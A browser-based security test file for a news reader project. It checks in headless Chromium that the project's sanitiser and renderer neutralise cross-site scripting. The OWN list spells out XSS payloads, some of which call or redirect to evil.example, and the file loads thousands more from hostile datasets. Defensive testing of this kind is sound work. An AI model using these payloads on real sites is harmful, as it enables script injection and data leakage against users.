"""Row H08 in a real browser: vectors through an article's body, through the project's own renderer, in headless Chromium.

No script may run and no request may leave. Vectors are rendered many to a page, each also on its own path: as the body of a feed entry or
page (`lay_out`, then the renderer) and as the sanitised fragment by itself.
"""

from __future__ import annotations

import gzip
import json
import re
from datetime import UTC, datetime
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Dialog, Route

from broadsheet.desk.render import html_of
from broadsheet.extract.layout import lay_out
from broadsheet.extract.page import article_of_html
from broadsheet.extract.sanitise import safe_html
from broadsheet.types import Article

pytestmark = pytest.mark.browser
NOW = datetime(2026, 11, 2, 9, 30, tzinfo=UTC)
BASE = "https://paper.example/a"
#: Where the page is shown; answered here, nothing is asked of any network.
READER = "https://reader.example/"
#: Anything that a vector would call leaves a mark.
WATCH = """
window.__ran = [];
for (const name of ['alert', 'confirm', 'prompt', 'print', 'open'])
  window[name] = (...given) => { window.__ran.push(name); };
"""
TOUCH = """
for (const node of document.querySelectorAll('a,img,details,summary')) {
  node.dispatchEvent(new Event('mouseover'));
  if (node.focus) node.focus();
}
"""
OWN = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a autofocus href=javascript:alert(1) onfocus=alert(1)>x</a>",
    "<iframe src='javascript:parent.alert(1)'></iframe>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<style>@import url(https://evil.example/x.css)</style><p style='background:url(https://evil.example/x)'>x</p>",
    "<img src='https://evil.example/?",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
]


def ran_and_asked(browser: Browser, pieces: list[str]) -> tuple[list[str], list[str]]:
    """What ran and what was asked for when the pieces were shown, each in an element of its own, in one page."""
    asked: list[str] = []
    markup = "<!doctype html><meta charset=utf-8><title>t</title>" + "".join(f"<div class=piece>{piece}</div>" for piece in pieces)

    def answer(route: Route) -> None:
        if route.request.url == READER:
            route.fulfill(body=markup, content_type="text/html")
        else:
            asked.append(route.request.url)
            route.abort()

    def dismiss(dialog: Dialog) -> None:
        asked.append(f"dialog {dialog.message}")
        dialog.dismiss()

    page = browser.new_page()
    page.add_init_script(WATCH)
    page.route("**/*", answer)
    page.on("dialog", dismiss)
    page.goto(READER)
    page.evaluate(TOUCH)
    ran = page.evaluate("window.__ran")
    shown = page.evaluate("document.querySelectorAll('div.piece').length")
    page.close()
    assert shown == len(pieces)
    return ran, asked


def rendered(vector: str) -> str:
    """A vector as a reader's page holds it: the body of a feed entry through layout and renderer."""
    text, blocks = lay_out(vector, BASE)
    return str(html_of(Article(received=NOW, text=text, layout=blocks)))


def without_pictures(markup: str) -> str:
    # A sanitised fragment may hold a picture on the web, which the reader's page never loads from there.
    return re.sub(r"<img [^>]*>", "", markup)


def test_H08_own_vectors(browser):
    assert ran_and_asked(browser, [rendered(vector) for vector in OWN]) == ([], [])
    assert ran_and_asked(browser, [without_pictures(safe_html(vector, BASE)) for vector in OWN]) == ([], [])


def test_H08_the_watch_sees_what_is_active(browser):
    ran, asked = ran_and_asked(browser, ["<img src=https://evil.example/x onerror=alert(1)>"])
    assert ran == ["alert"]
    assert asked == ["https://evil.example/x"]


@pytest.mark.shared
def test_H08_all_vectors_through_article_and_feed_bodies(browser, shared: Path):
    packed = gzip.decompress((shared / "data/hostile/xss_vectors.jsonl.gz").read_bytes()).decode()
    plain = (shared / "data/hostile/xss_owasp_cc_by_sa.jsonl").read_text()
    payloads = [json.loads(line)["payload"] for line in (packed + plain).split("\n") if line]
    assert len(payloads) == 4043
    feeds = [rendered(payload) for payload in payloads]
    fragments = [without_pictures(safe_html(payload, BASE)) for payload in payloads]
    filler = "<p>The ferry from Ostvik left fifty minutes late on Sunday, the fourth delay within a week, said the county.</p>" * 4
    articles = []
    for payload in payloads[::20]:
        found = article_of_html(f"<html><body><article><h1>Late</h1>{filler}{payload}{filler}</article></body></html>", BASE, NOW)
        articles.append(str(html_of(found)))
    for pieces in (feeds, fragments, articles):
        for start in range(0, len(pieces), 500):
            assert ran_and_asked(browser, pieces[start : start + 500]) == ([], [])
